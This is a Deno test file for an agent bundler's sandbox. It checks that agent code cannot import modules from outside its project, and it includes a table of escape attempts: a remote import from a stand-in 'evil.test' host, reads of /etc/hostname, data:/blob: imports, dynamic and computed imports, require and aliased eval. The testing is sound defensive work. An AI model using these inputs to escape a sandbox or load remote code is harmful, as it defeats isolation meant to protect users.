import assert from "node:assert/strict";
import { TwokeyError } from "../../src/errors.ts";
import { bundleAgent } from "../../src/launch/bundle.ts";
import { runIn } from "./composition.ts";
import { makeWorld } from "./world.ts";

/** Ways to name a module, or code that is none of the project's. */
const SOURCES: Readonly<Record<string, string>> = {
  "a module of the runtime": 'import fs from "node:fs"; export const outcome = typeof fs.readFileSync;',
  "a bare name of the runtime": 'import fs from "fs"; export const outcome = typeof fs;',
  "all of a module": 'export * from "node:fs";',
  "a package": 'import x from "npm:left-pad@1.3.0"; export const outcome = typeof x;',
  "a registry": 'import x from "jsr:@std/fs"; export const outcome = typeof x;',
  "a remote module": 'import x from "https://evil.test/x.js"; export const outcome = typeof x;',
  "a file outside": 'import x from "../outside/mod.js"; export const outcome = typeof x;',
  "a file outside, absolute": 'import x from "/etc/hostname" with { type: "text" }; export const outcome = x;',
  "a file outside as JSON": 'import x from "../outside/data.json" with { type: "json" }; export const outcome = x;',
  "a file outside by a link": 'import x from "./linked/mod.js"; export const outcome = typeof x;',
  "a file address": 'import x from "file:///etc/hostname"; export const outcome = typeof x;',
  "a data address": 'import x from "data:text/javascript,export default typeof Deno"; export const outcome = x;',
  "a blob address": 'import x from "blob:null/1"; export const outcome = typeof x;',
  "a dynamic import": 'export const outcome = typeof (await import("node:fs")).default;',
  "a dynamic import with a comment": 'export const outcome = typeof (await import/**/("node:fs")).default;',
  "a dynamic import over two lines": 'export const outcome = typeof (await import\n("node:fs")).default;',
  "a computed import": 'const n = ["node", "fs"].join(":"); export const outcome = typeof (await import(n)).default;',
  "an import in a template": 'export const outcome = `${typeof (await import(`node:${"fs"}`)).default}`;',
  "a deferred import": 'import defer * as fs from "node:fs"; export const outcome = typeof fs.default;',
  "a required module": 'const fs = require("fs"); export const outcome = typeof fs;',
  "a required module of TypeScript": 'import fs = require("fs"); export const outcome = typeof fs;',
  "a phase of an import": 'export const outcome = typeof (await import.source("node:fs"));',
  "code from a string": 'export const outcome = eval("typeof Deno");',
  "code from an aliased eval": 'const e = (0, eval); export const outcome = e("typeof Deno");',
};

Deno.test("agent source cannot name anything but modules of its project, in any way", async () => {
  const world = await makeWorld();
  try {
    await Deno.writeTextFile(`${world.outside}/data.json`, '{"secret":1}');
    const survived: string[] = [];
    for (const [name, source] of Object.entries(SOURCES)) {
      const entry = `${world.project}/agent.ts`;
      await Deno.writeTextFile(entry, source);
      let code: string;
      try {
        ({ code } = await bundleAgent({ entry, project: world.project, cacheDir: `${world.dir}/bundles` }));
      } catch (error) {
        assert.ok(error instanceof TwokeyError, `${name}: ${error}`);
        continue;
      }
      // What the compiler lets through must fail where it runs, in every isolation.
      for (const isolation of ["process", "worker", "compartment"] as const) {
        const { end, outcome } = await runIn(world, { keys: "shipped", isolation, code });
        if (end.reason !== "agent_error") {
          survived.push(`${name} in ${isolation}: ${end.reason} ${JSON.stringify(outcome)}`);
        }
      }
    }
    assert.deepEqual(survived, []);
  } finally {
    await world.close();
  }
});

Deno.test("an agent's module that is one of its project runs: the refusals above mean something", async () => {
  const world = await makeWorld();
  try {
    await Deno.writeTextFile(`${world.project}/part.ts`, "export const part: number = 41;\n");
    const entry = `${world.project}/agent.ts`;
    await Deno.writeTextFile(entry, 'import { part } from "./part.ts";\nexport const outcome = part + 1;\n');
    const { code } = await bundleAgent({ entry, project: world.project, cacheDir: `${world.dir}/bundles` });
    for (const isolation of ["process", "worker", "compartment"] as const) {
      assert.equal((await runIn(world, { keys: "shipped", isolation, code })).outcome, 42);
    }
  } finally {
    await world.close();
  }
});
